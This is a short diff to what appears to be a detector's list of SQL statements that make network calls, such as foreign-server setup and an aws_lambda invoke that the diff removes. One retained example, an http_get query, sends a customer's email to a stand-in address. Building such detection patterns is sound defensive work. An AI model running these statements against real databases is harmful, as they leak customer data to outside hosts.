@@ -214,7 +214,6 @@ _NETWORK_CALL = Signal(
             "CREATE SERVER s9 FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '203.0.113.9', dbname 'x')",
             "CREATE USER MAPPING FOR app SERVER s9 OPTIONS (user 'x', password 'y')",
             "IMPORT FOREIGN SCHEMA public FROM SERVER s9 INTO f",
-            "SELECT \"aws_lambda\" . \"invoke\"('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
             "SELECT content FROM http_get('http://203.0.113.9/' || (SELECT email FROM customers LIMIT 1))",
         ),
         "mysql": (
